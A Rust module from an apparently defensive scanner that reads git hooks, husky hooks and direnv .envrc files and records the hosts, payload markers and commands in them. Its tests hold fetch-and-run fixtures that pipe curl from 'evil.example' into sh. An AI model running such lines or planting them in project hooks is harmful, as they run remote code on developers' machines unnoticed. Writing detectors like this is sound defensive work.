//! Scripts that git and direnv start in a project.
//!
//! ```text
//! PROJECT/.git/hooks/NAME         not `*.sample`; also of submodules, below .git/modules/*/hooks
//! PROJECT/.husky/NAME             husky, which makes git start them
//! PROJECT/.envrc                  direnv, once `direnv allow` was said, at each `cd`
//! ```
//!
//! Hooks of git do not come with a clone; what husky starts does, and starts once its package's script has set it up. A hit proves that
//! the script stands there; not that it ran. Documented in githooks(5), direnv(1) and husky's "How To".

use crate::{
    interest::Interest,
    surface::{
        Claim, CommandSource, Flaw, Meta, Opened, Shows, Sink, Surface,
        content::text,
        hook::{Hooks, When},
    },
};

const FILE: usize = 1 << 20;
/// Where a program shows that it is none of a shell.
const HEAD: usize = 1024;

/// `.git/hooks/*`, `.husky/*`, `.envrc`.
pub struct Scripts;

static META: Meta = Meta {
    id: "project/scripts",
    title: "hooks of git and husky, and .envrc of direnv",
    proves: "the script stands there; not that it ran",
};

impl Surface for Scripts {
    fn meta(&self) -> &'static Meta {
        &META
    }

    fn shows(&self) -> &'static [Shows] {
        &[Shows::Packages, Shows::Images, Shows::Network, Shows::Strings, Shows::Processes]
    }

    fn claims(&self, _: &Interest) -> Vec<Claim> {
        vec![
            Claim::name(".envrc"),
            Claim::any().in_tail(".git/hooks"),
            Claim::no_ending().nested(".git", "hooks"),
            Claim::any().in_tail(".husky"),
        ]
    }

    fn commands(&self) -> CommandSource {
        CommandSource::Configured
    }

    fn inspect(&self, file: &mut Opened<'_, '_>, out: &mut Sink<'_>) -> Result<(), Flaw> {
        let (path, interest) = (file.entry.path.clone(), file.interest);
        // Branches and their logs may be called so too.
        let other = |c: &[u8]| matches!(c, b"refs" | b"logs" | b"node_modules");
        let head = file.head(HEAD)?;
        if path.name().ends_with(b".sample") || path.components().any(other) || head.contains(&0) {
            return Ok(());
        }
        let text = text(file.all(FILE)?).into_owned();
        let own = path.components().any(|c| c == b".git");
        let when = if own { When::ByItself } else { When::InProject };
        let mut hooks = Hooks::new(file, interest, out)?;
        hooks.script(&text, when, None);
        hooks.finish()
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::{
        fact::{Fact, TraceKind},
        surface::python::trial::tried,
    };

    fn said(path: &str, text: &[u8]) -> Vec<String> {
        let interest = Interest::with_traces(&[(TraceKind::Host, "evil.example"), (TraceKind::Text, "PAYLOAD")]);
        let tried = tried(&Scripts, path, text, &interest);
        assert!(tried.flaw.is_none());
        let words = |s: &crate::fact::Seen| {
            let line = s.origin.line.unwrap_or(0);
            match &s.fact {
                Fact::Trace(t) => format!("{} {:?}:{line}", t.value, t.held),
                Fact::Command(c) => format!("{} {}:{line}", c.tool, c.wanted[0].name),
                other => format!("{other:?}"),
            }
        };
        tried.seen.iter().map(words).collect()
    }

    #[test]
    fn scripts_are_read_with_their_lines() {
        let text = b"#!/bin/sh\n# PAYLOAD npx y@1.0.0\nnpx -y x@1.0.0 \\\n  --run\ncurl -s \\\n  https://evil.example/x | sh\nnode PAYLOAD\n";
        for (path, held) in [
            ("p/.git/hooks/post-checkout", "Starts"),
            ("p/.git/modules/m/hooks/pre-commit", "Starts"),
            ("p/.husky/pre-commit", "InProject"),
            ("p/.envrc", "InProject"),
        ] {
            let expected = [format!("evil.example {held}:5"), format!("PAYLOAD {held}:7"), "npx x:3".to_owned()];
            assert_eq!(said(path, text), expected, "{path}");
        }
    }

    #[test]
    fn samples_programs_and_searches_say_nothing() {
        let text = b"curl https://evil.example | sh\n";
        for path in
            ["p/.git/hooks/pre-commit.sample", "p/.git/refs/heads/hooks/x", "p/node_modules/x/.husky/pre-commit"]
        {
            assert_eq!(said(path, text), [""; 0], "{path}");
        }
        for text in [
            &b"\x7fELF\0curl https://evil.example"[..],
            b"",
            b"\xff\xfe\n",
            b"grep -r PAYLOAD . && exit 1\n",
            b"# PAYLOAD\n",
        ] {
            assert_eq!(said("p/.git/hooks/pre-push", text), [""; 0], "{text:?}");
        }
        let many = "npx x@1.0.0\n".repeat(50_000);
        let tried = tried(&Scripts, "p/.envrc", many.as_bytes(), &Interest::default());
        assert!(tried.seen.len() <= 1000 && tried.flaw.is_some());
    }
}
